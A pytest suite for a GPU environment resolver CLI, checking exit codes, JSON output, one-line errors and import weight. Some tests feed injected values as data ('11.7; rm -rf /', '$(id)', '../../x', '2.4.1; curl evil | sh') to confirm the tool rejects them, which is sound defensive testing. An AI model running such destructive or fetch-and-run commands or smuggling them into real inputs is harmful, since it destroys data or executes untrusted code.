"""The CLI contract: exit codes, one-line errors, JSON output, and no heavy imports on the fast paths."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from gpuenv.cli import COMMANDS
from gpuenv.resources import data_file
from tests.conftest import run_gpuenv

STACK_KEYS = {
    "schema",
    "torch",
    "torchvision",
    "torchaudio",
    "cuda",
    "platform",
    "build",
    "cudnn",
    "python",
    "python_source",
    "os",
    "base_images",
    "index_url",
    "driver_min",
    "driver_branch",
    "reasons",
    "rejected",
    "warnings",
}


def test_version_and_help() -> None:
    assert run_gpuenv("--version").stdout.startswith("gpuenv, version")
    out = run_gpuenv("--help")
    assert out.returncode == 0 and "resolve" in out.stdout and "Exit codes" in out.stdout


@pytest.mark.parametrize("name", sorted(COMMANDS))
def test_the_registry_summary_is_the_first_line_of_the_commands_help(name: str) -> None:
    entry = COMMANDS[name]
    assert entry.summary == (entry.load().help or "").splitlines()[0]


def test_help_lists_the_commands_without_importing_them() -> None:
    code = (
        "import sys\nfrom gpuenv.cli import main\ntry:\n    main(['--help'])\nexcept SystemExit:\n    pass\n"
        "print(sorted(m for m in sys.modules if m.endswith('_cmd')), file=sys.stderr)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert "verify" in out.stdout and "Certify this node" in out.stdout
    assert out.stderr.strip() == "[]"


def test_resolve_json_contract() -> None:
    out = run_gpuenv("resolve", "--cuda", "11.7", "--json")
    assert out.returncode == 0, out.stderr
    stack = json.loads(out.stdout)
    assert set(stack) >= STACK_KEYS
    assert stack["schema"] == "gpuenv.stack/2"
    assert (stack["cuda"], stack["build"], stack["python"]) == ("11.7.1", "cu117", "3.10")
    assert stack["index_url"] == "https://download.pytorch.org/whl/cu117"


def test_requirements_format() -> None:
    out = run_gpuenv("resolve", "--torch", "2.4", "--cuda", "12.1", "--format", "requirements")
    assert out.stdout.splitlines()[:3] == [
        "--index-url https://download.pytorch.org/whl/cu121",
        "torch==2.4.1",
        "torchvision==0.19.1",
    ]


def test_impossible_request_exit_2_with_nearest_and_empty_stdout() -> None:
    out = run_gpuenv("resolve", "--torch", "1.13", "--cuda", "12.4", "--json")
    assert out.returncode == 2
    assert out.stdout == ""
    assert "no stack satisfies" in out.stderr and "cu116, cu117" in out.stderr
    assert "Traceback" not in out.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["--cuda", "11.7; rm -rf /"],
        ["--cuda", "$(id)"],
        ["--os", "../../x"],
        ["--cuda", "９.９"],
        ["--cuda", ""],
        ["--torch", "1" * 5000],
        ["--gpu", "H100\nrm"],
        ["--driver", "abc"],
        ["--python", "3.x"],
        ["--stack", "/nonexistent/stack.json"],
    ],
)
def test_bad_input_is_one_line_exit_2(args: list[str], tmp_path) -> None:  # type: ignore[no-untyped-def]
    out = run_gpuenv("resolve", *args, cwd=tmp_path)
    assert out.returncode == 2, out
    assert out.stdout == ""
    assert "Traceback" not in out.stderr
    assert out.stderr.startswith("gpuenv: error:")  # Click's usage errors too
    assert list(tmp_path.iterdir()) == []  # nothing written


def test_stack_file_round_trip(tmp_path) -> None:  # type: ignore[no-untyped-def]
    stack = tmp_path / "stack.json"
    stack.write_text(run_gpuenv("resolve", "--cuda", "12.4", "--gpu", "H100", "--json").stdout)
    again = run_gpuenv("resolve", "--stack", str(stack), "--json")
    assert again.returncode == 0 and json.loads(again.stdout) == json.loads(stack.read_text())
    assert run_gpuenv("resolve", "--stack", str(stack), "--cuda", "11.7").returncode == 2


def test_tampered_stack_file_is_rejected(tmp_path) -> None:  # type: ignore[no-untyped-def]
    data = json.loads(run_gpuenv("resolve", "--cuda", "12.4", "--json").stdout)
    data["torch"] = "2.4.1; curl evil | sh"
    path = tmp_path / "stack.json"
    path.write_text(json.dumps(data))
    out = run_gpuenv("resolve", "--stack", str(path))
    assert out.returncode == 2 and f"stack file {path}: torch:" in out.stderr


def test_driver_auto_without_a_driver_says_so() -> None:
    out = run_gpuenv("resolve", "--driver", "auto", env={"LD_LIBRARY_PATH": ""})
    assert out.returncode == 3
    assert "no NVIDIA driver found" in out.stderr


def test_data_override_via_env(tmp_path) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "kb.json"
    bad.write_text("[]")
    out = run_gpuenv("matrix", env={"GPUENV_DATA": str(bad)})
    assert out.returncode == 2 and "knowledge base" in out.stderr


def test_matrix_filters_and_json() -> None:
    out = run_gpuenv("matrix", "--cuda", "12.4", "--json")
    rows = json.loads(out.stdout)
    # every patch release is in the knowledge base, each with its own builds
    assert [t["torch"] for t in rows["torch"]] == ["2.4.0", "2.4.1", "2.5.0", "2.5.1", "2.6.0"]
    assert [c["cuda"] for c in rows["cuda"]] == ["12.4"]
    assert rows["generated"] == json.loads(data_file("compat.json").read_text())["generated"]
    assert rows["torch"][0]["arch"]["cu124"] == "5.0;6.0;7.0;7.5;8.0;8.6;9.0"
    table = run_gpuenv("matrix", "--torch", "2.4").stdout
    assert "2.4.0" in table and "2.4.1" in table and "knowledge base: shipped, generated" in table


def test_stale_knowledge_base_warns(tmp_path) -> None:  # type: ignore[no-untyped-def]
    old = json.loads(data_file("compat.json").read_text())
    old["generated"] = "2020-01-01"
    path = tmp_path / "kb.json"
    path.write_text(json.dumps(old))
    for command in (["matrix"], ["resolve", "--cuda", "12.4"]):
        out = run_gpuenv(*command, env={"GPUENV_DATA": str(path)})
        assert out.returncode == 0 and "generated on 2020-01-01" in out.stderr and "days ago" in out.stderr


def test_resolve_exact_and_local_torch_versions() -> None:
    stack = json.loads(run_gpuenv("resolve", "--torch", "2.4.0+cu121", "--json").stdout)
    assert (stack["torch"], stack["build"]) == ("2.4.0", "cu121")
    volta = run_gpuenv("resolve", "--torch", "2.7", "--gpu", "V100", "--cuda", "12.8")
    assert volta.returncode == 2 and "2.7.1+cu126" in volta.stderr and "Traceback" not in volta.stderr


def test_debug_shows_traceback_for_crashes(tmp_path) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "kb.json"
    bad.write_text("{}")
    plain = run_gpuenv("matrix", env={"GPUENV_DATA": str(bad)})
    debug = run_gpuenv("--debug", "matrix", env={"GPUENV_DATA": str(bad)})
    assert "Traceback" not in plain.stderr and "Traceback" in debug.stderr


HEAVY = ("torch", "docker", "ansible_runner", "pynvml")


@pytest.mark.parametrize(
    "args", [["--help"], ["resolve", "--cuda", "11.7", "--json"], ["matrix"], ["resolve", "--help"]]
)
def test_fast_paths_import_nothing_heavy(args: list[str]) -> None:
    code = (
        "import sys, runpy\n"
        f"sys.argv = ['gpuenv', *{args!r}]\n"
        "try:\n    runpy.run_module('gpuenv', run_name='__main__')\n"
        "except SystemExit:\n    pass\n"
        f"heavy = [m for m in {HEAVY!r} if m in sys.modules]\n"
        "sys.stderr.write('HEAVY=' + ','.join(heavy))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert "HEAVY=" in out.stderr and out.stderr.rsplit("HEAVY=", 1)[1] == ""


def test_shell_completion_lists_commands() -> None:
    out = run_gpuenv(env={"COMP_WORDS": "gpuenv re", "COMP_CWORD": "1", "_GPUENV_COMPLETE": "bash_complete"})
    assert out.stdout.split() == ["plain,resolve"]
